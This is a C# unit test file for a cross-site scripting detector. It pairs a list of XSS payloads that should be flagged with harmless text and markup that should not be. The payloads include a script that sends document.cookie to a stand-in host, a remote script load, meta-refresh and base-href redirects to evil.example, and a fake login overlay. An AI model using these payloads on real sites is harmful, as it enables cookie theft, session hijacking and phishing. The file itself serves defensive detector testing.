namespace ServerlessShield.Tests.Inspection.Detectors;

public class CrossSiteScriptingDetectorTests
{
    private readonly CrossSiteScriptingDetector _detector = new();

    [Theory]
    [InlineData("<script>fetch('//x.example/'+document.cookie)</script>")]
    [InlineData("<ScRiPt src=//x.example/a.js>")]
    [InlineData("<scr\0ipt>alert(7)</scr\0ipt>")]
    [InlineData("%3Cscript%3Econfirm(7)%3C/script%3E")]
    [InlineData("&lt;script&gt;prompt(7)&lt;/script&gt;")]
    [InlineData("＜script＞alert(7)＜/script＞")]
    [InlineData("<svg/onload=confirm(7)>")]
    [InlineData("<img src=1 onerror=print()>")]
    [InlineData("<details open ontoggle=alert(7)>")]
    [InlineData("<custom-el onpointerenter=alert(7)>hover</custom-el>")]
    [InlineData("<x 1=\"a\"onanimationstart=alert(7)>")]
    [InlineData("<a href=\"jav&#x09;ascript:alert(7)\">x</a>")]
    [InlineData("<a href=\"javascript&colon;alert&lpar;7&rpar;\">x</a>")]
    [InlineData("<iframe srcdoc=\"<b>hi</b>\"></iframe>")]
    [InlineData("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==\">")]
    [InlineData("<form><button formaction=javascript:alert(7)>go</button></form>")]
    [InlineData("<div style=\"width:expression(alert(7))\">")]
    [InlineData("<p style=\"background:url('javascript:alert(7)')\">")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">")]
    [InlineData("<base href=\"https://evil.example/\">")]
    [InlineData("\"><img src=x onerror=alert(7)>")]
    [InlineData("\" autofocus onfocus=\"alert(7)")]
    [InlineData("' onmouseover='alert(7)' x='")]
    [InlineData("javascript:alert(document.domain)")]
    [InlineData("JaVaScRiPt:void(fetch('//x.example'))")]
    [InlineData("next=vbscript:msgbox(7)")]
    [InlineData("';alert(String.fromCharCode(55))//")]
    [InlineData("\"-confirm(7)-\"")]
    [InlineData("top['al'+'ert'](7)")]
    [InlineData("[7].map(alert)")]
    [InlineData("</textarea><svg onload=alert(7)>")]
    [InlineData("+ADw-script+AD4-alert(7)+ADw-/script+AD4-")]
    [InlineData("PHN2ZyBvbmxvYWQ9YWxlcnQoNyk+")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>")]
    [InlineData("<html xmlns:xss><xss:xss>")]
    [InlineData("<p xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:rect/></p>")]
    [InlineData("<g xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"click\" ev:handler=\"#h\"/>")]
    [InlineData("<div style=\"position: fixed; inset: 0; z-index: 9999\">Session expired, log in again</div>")]
    [InlineData("<b style=\"font:x}color=red\">x</b>")]
    [InlineData("<i style=\"background:url(//evil.example/x.png)\">x</i>")]
    public void ScriptInMarkupUrlsAndJavaScript_IsDetected(string value)
    {
        Assert.True(DetectorProbe.Fires(_detector, value), value);
    }

    [Theory]
    [InlineData("I <3 cats and 2 < 3")]
    [InlineData("if a < b && c > d then swap")]
    [InlineData("<b>Bold</b> and <i>italic</i> text")]
    [InlineData("See <a href=\"https://example.com/docs\">the docs</a>")]
    [InlineData("<img class=\"thumb\" src=\"/img/cat.png\" alt=\"cat\">")]
    [InlineData("Contact Ann <ann@example.com>")]
    [InlineData("Usage: convert <input> <output>")]
    [InlineData("std::map<int, std::string> m;")]
    [InlineData("<?xml version=\"1.0\"?><note>hi</note>")]
    [InlineData("JavaScript: The Good Parts")]
    [InlineData("I'm learning javascript and python")]
    [InlineData("Please confirm (yes or no) by Friday")]
    [InlineData("Set an alert for 7am")]
    [InlineData("The ?online=1 flag shows active users")]
    [InlineData("https://example.com/?onboarding=true&lang=en")]
    [InlineData("style=color:red;font-weight:bold")]
    [InlineData("Regular expression (regex) basics")]
    [InlineData("print(\"hello\") in Python 3")]
    [InlineData("Size: 10½ or ¼ cup of sugar")]
    [InlineData("/docs/javascript-guide/document.cookie")]
    [InlineData("VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZw==")]
    [InlineData("<table border=\"0\" cellpadding=\"2\"><tr><td>1</td></tr></table>")]
    [InlineData("Price < $5 > quality")]
    [InlineData("ratio 1/4 and 3/4")]
    [InlineData("<style> is not allowed in emails")]
    [InlineData("Learn JavaScript: variables, loops and functions")]
    [InlineData("<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><Ping/></soap:Body></soap:Envelope>")]
    [InlineData("<Invoice xmlns:cbc=\"urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2\"><cbc:ID>INV-42</cbc:ID></Invoice>")]
    [InlineData("<p><span style=\"color: rgb(230, 0, 0);\">Sale ends today</span></p>")]
    [InlineData("<p style=\"text-align: center;\"><strong>Welcome</strong></p>")]
    [InlineData("<td style=\"padding:8px;font-family:Arial,sans-serif;color:#333\">Total</td>")]
    public void OrdinaryTextAndHarmlessMarkup_IsNotDetected(string value)
    {
        Assert.False(DetectorProbe.Fires(_detector, value), value);
    }

    [Theory]
    [InlineData("<")]
    [InlineData("<a ")]
    [InlineData("<a b=\"")]
    [InlineData("on")]
    [InlineData(" onx=")]
    [InlineData("javascript")]
    [InlineData("[]!+")]
    [InlineData("<style>")]
    [InlineData("/*")]
    [InlineData("cookie ")]
    [InlineData("-->")]
    [InlineData("¼")]
    public void PathologicalInput_Completes(string unit)
    {
        _ = _detector.IsMatch(DetectorProbe.Repeat(unit));
    }
}
